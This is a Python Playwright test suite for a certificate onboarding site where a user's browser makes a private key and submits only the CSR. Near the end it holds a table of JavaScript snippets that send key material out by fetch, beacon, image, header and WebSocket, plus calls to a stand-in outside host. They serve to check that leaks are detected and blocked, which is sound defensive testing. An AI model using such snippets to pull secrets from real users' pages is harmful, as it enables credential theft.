"""Custody `browser`, as people walk it: the key is made and saved, the CSR alone is sent, and it works in the end."""

import base64
import re
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.hazmat.primitives.serialization import load_pem_private_key
from playwright.sync_api import Browser, Dialog, expect

from onboarding.pki.keys import encrypt_key, generate_rsa_key, spki_sha256
from tests.browser import steps
from tests.browser.conftest import Visit
from tests.browser.visitor import Visitor
from tests.browser_key.traffic import Traffic, secrets_of
from tests.walkthrough.instance import Instance

NAME = "Vans of the agencies"
COMPANY = "Société Générale"
PASSPHRASE = "wintergreen over seven bridges"
CUSTODY = "Your browser makes it"


def approved(visit: Visit, name: str, mzp: str) -> tuple[Visitor, str]:
    """Bring an application to its key, custody `browser`. Returns the partner, on the key's page, and the path."""
    partner = visit("Example Mobility Owner")
    path = steps.describe(partner, steps.FLEET_OWNER, name, "Example Mobility")
    partner.press("Submit for review")
    steps.approve(visit("Reviewer"), name, mzp)
    steps.name_the_key(partner, path, CUSTODY)
    return partner, path


def make_the_key(partner: Visitor, passphrase: str = PASSPHRASE) -> None:
    """Make the key, up to the button that saves it."""
    page = partner.page
    page.get_by_label("Passphrase for the key's file").fill(passphrase)
    page.get_by_label("Passphrase, once more").fill(passphrase)
    page.get_by_role("button", name="Make the key").click()
    expect(page.get_by_role("heading", name="2. Save the key")).to_be_focused(timeout=30_000)


def test_a_key_made_in_the_browser_never_leaves_it_and_works_in_the_end(visit: Visit) -> None:
    partner, path = approved(visit, NAME, "MZP500001")
    page = partner.page
    traffic = Traffic(page.context)
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.type)
        dialog.dismiss()

    page.on("dialog", dismiss)
    partner.open(f"{path}sandbox/key/").look("key, three custodies").fill({"(O)": COMPANY}).press("Continue")
    partner.heading("Make the key in your browser").sees(COMPANY).look("key: browser")
    expect(page.get_by_text("This browser cannot make a key")).to_be_hidden()

    # The passphrase: too short, then not the same twice
    passphrase, repeated = page.get_by_label("Passphrase for the key's file"), page.get_by_label("once more")
    button = page.get_by_role("button", name="Make the key")
    passphrase.fill("short")
    expect(page.locator("[data-part=strength]")).to_have_text("Too short")
    button.click()
    expect(passphrase).to_be_focused()
    partner.sees("Use at least 12 characters").look("key: browser, short passphrase")
    passphrase.fill(PASSPHRASE)
    expect(page.locator("[data-part=strength]")).to_have_text("Strong")
    repeated.fill(PASSPHRASE + "s")
    button.click()
    expect(repeated).to_be_focused()
    partner.sees("This is not the same passphrase").look("key: browser, two passphrases")

    # Made; whoever leaves now is asked whether they mean it
    make_the_key(partner)
    expect(page.get_by_role("button", name="Check and submit the CSR")).to_be_hidden()
    partner.look("key: browser, made")
    page.get_by_role("link", name="Change these").click(no_wait_after=True)
    expect(page.get_by_role("heading", name="2. Save the key")).to_be_visible()
    assert dialogs == ["beforeunload"]

    # Saved, then submitted; nobody is asked any more
    file = partner.download("Save private-key.pem")
    page.get_by_text("What is sent").click()
    partner.look("key: browser, saved")
    partner.press("Check and submit the CSR").sees("checked and submitted", "Only you", "Made in your browser", COMPANY)
    assert dialogs == ["beforeunload"]
    partner.look("CSR, made in the browser")

    # Key and CSR belong together, and of the key nothing was sent
    key = load_pem_private_key(file, PASSPHRASE.encode())
    assert isinstance(key, RSAPrivateKey)
    csr = x509.load_pem_x509_csr((page.locator("#csr-pem").text_content() or "").encode())
    assert spki_sha256(key.public_key()) == spki_sha256(csr.public_key())

    # The certificate comes; the page compares, without sending the file
    steps.sign(visit("Issuer"), NAME)
    partner.open(f"{path}sandbox/certificate/").sees("openssl pkcs12 -export", spki_sha256(key.public_key()))
    assert compare(partner, b"", "") == "Choose the private key's file first"
    partner.look("certificate, no key file")
    assert compare(partner, file, PASSPHRASE) == "Yes: key and certificate belong together"
    partner.look("certificate, key compared")
    assert compare(partner, file, "not the right one") == "The passphrase does not open this file"
    assert compare(partner, file, "") == "This file is encrypted: type its passphrase, too"
    other = encrypt_key(generate_rsa_key(2048), PASSPHRASE.encode())
    assert compare(partner, other, PASSPHRASE) == "No: this is the key of another certificate"
    assert compare(partner, b"PK\x03\x04", "") == "There is no private key in PEM form in this file"
    assert traffic.holds(secrets_of(key, file, PASSPHRASE)) == set()
    assert traffic.without_body == []
    assert any(b"CERTIFICATE+REQUEST" in sent for sent in traffic.sent)

    # Lent for one run, it works
    partner.open(f"{path}sandbox/validate/").look("validate, key made in the browser")
    partner.give("Private key", "private-key.pem", file).fill({"Passphrase of the key": PASSPHRASE})
    partner.press("Validate").wait_for_run("Passed")


def compare(partner: Visitor, file: bytes, passphrase: str) -> str:
    """Compare a key file with the certificate on its page. Returns the answer's title."""
    if file:
        partner.give("Private key file", "private-key.pem", file)
    partner.page.get_by_label("Passphrase of the key's file").fill(passphrase)
    partner.page.get_by_role("button", name="Compare here, without uploading").click()
    answer = partner.page.locator("[data-answer]:visible .notice__title")
    expect(answer).to_have_count(1, timeout=30_000)
    return answer.text_content() or ""


def test_names_that_would_be_refused_are_named_before_a_key_is_made(visit: Visit) -> None:
    partner, path = approved(visit, "Names first", "MZP500002")
    partner.open(f"{path}sandbox/key/").fill({"(L)": "SociÃ©tÃ©"}).press("Continue")
    partner.sees("A CSR with these names would be refused").look("key: browser, names to mend")
    expect(partner.page.locator("[data-keymaker]")).to_have_count(0)


@pytest.mark.parametrize("missing", ["script", "secure address"])
def test_without_script_or_a_secure_address_the_page_points_to_the_other_way(
    visit: Visit, running: Instance, missing: str
) -> None:
    _partner, path = approved(visit, f"Without {missing}", {"script": "MZP500003"}.get(missing, "MZP500004"))
    visitor = visit("Example Mobility Owner", java_script_enabled=missing != "script")
    if missing == "secure address":
        visitor.page.add_init_script("Object.defineProperty(window, 'isSecureContext', {value: false})")
    visitor.open(f"{path}sandbox/key/browser/").sees("This browser cannot make a key on this page")
    expect(visitor.page.get_by_role("button", name="Make the key")).to_be_hidden()
    visitor.follow(re.compile("You make it, and keep it")).choose("You make it, and keep it").press("Continue")
    visitor.heading("Make the key, upload the CSR")


def test_a_csr_of_other_names_is_refused_and_another_key_can_be_made(visit: Visit, tmp_path: Path) -> None:
    partner, _path = approved(visit, "Other names", "MZP500005")
    config = "[req]\nprompt = no\ndistinguished_name = dn\n[dn]\nC = FR\nCN = MZP999999\n"
    _key, csr = steps.openssl(tmp_path / "other", config)
    make_the_key(partner)
    partner.download("Save private-key.pem")
    partner.page.locator("textarea[name=csr]").evaluate("(field, text) => { field.value = text; }", csr.decode())
    partner.press("Check and submit the CSR").sees("This CSR would be refused", "MZP500005")
    partner.look("key: browser, findings")
    make_the_key(partner)
    partner.download("Save private-key.pem")
    partner.press("Check and submit the CSR").sees("The CSR was checked and submitted")


# Ways in which a page could give a key away, none of which this one uses: the recording has to notice each.
LEAKS = {
    "a form's body": "(d) => fetch('/', {method: 'POST', body: new URLSearchParams({d})})",
    "a blob": "(d) => fetch('/', {method: 'POST', body: new Blob([Uint8Array.from(atob(d), (c) => c.charCodeAt(0))])})",
    "a beacon": "(d) => navigator.sendBeacon('/', d)",
    "an address": "(d) => fetch('/?' + new URLSearchParams({d}))",
    "a header": "(d) => fetch('/', {headers: {'X-Key': d}})",
    "a picture": "(d) => { new Image().src = '/?d=' + escape(d); }",
    "a web socket": "(d) => new Promise((done) => { new WebSocket('/?d=' + escape(d)).onerror = done; })",
}


@pytest.mark.parametrize("way", LEAKS)
def test_the_recording_notices_a_key_that_is_sent(browser: Browser, running: Instance, way: str) -> None:
    key = generate_rsa_key(2048)
    secrets = secrets_of(key, encrypt_key(key, b"x"), PASSPHRASE)
    context = browser.new_context(base_url=running.url)
    page = context.new_page()
    traffic = Traffic(context)
    page.goto("/accounts/login/")
    assert traffic.holds(secrets) == set()
    page.evaluate(f"async (d) => {{ await ({LEAKS[way]})(d); }}", base64.b64encode(secrets["d"]).decode())
    page.wait_for_timeout(200)
    # A body that the recording cannot see, such as a blob's, is reported as such.
    assert "d" in traffic.holds(secrets) or traffic.without_body
    context.close()


def test_the_policy_lets_nothing_be_sent_elsewhere(browser: Browser, running: Instance) -> None:
    context = browser.new_context(base_url=running.url)
    page = context.new_page()
    page.goto("/accounts/login/")
    blocked: Any = page.evaluate(
        """async () => {
          const blocked = [];
          addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
          await fetch("https://elsewhere.example/", {method: "POST", body: "x"}).catch(() => {});
          const image = new Image();
          await new Promise((done) => { image.onerror = done; image.src = "https://elsewhere.example/?x"; });
          try { new WebSocket("wss://elsewhere.example/"); } catch {}
          await new Promise((done) => setTimeout(done, 200));
          return blocked;
        }"""
    )
    assert sorted(blocked) == ["connect-src", "connect-src", "img-src"]
    context.close()
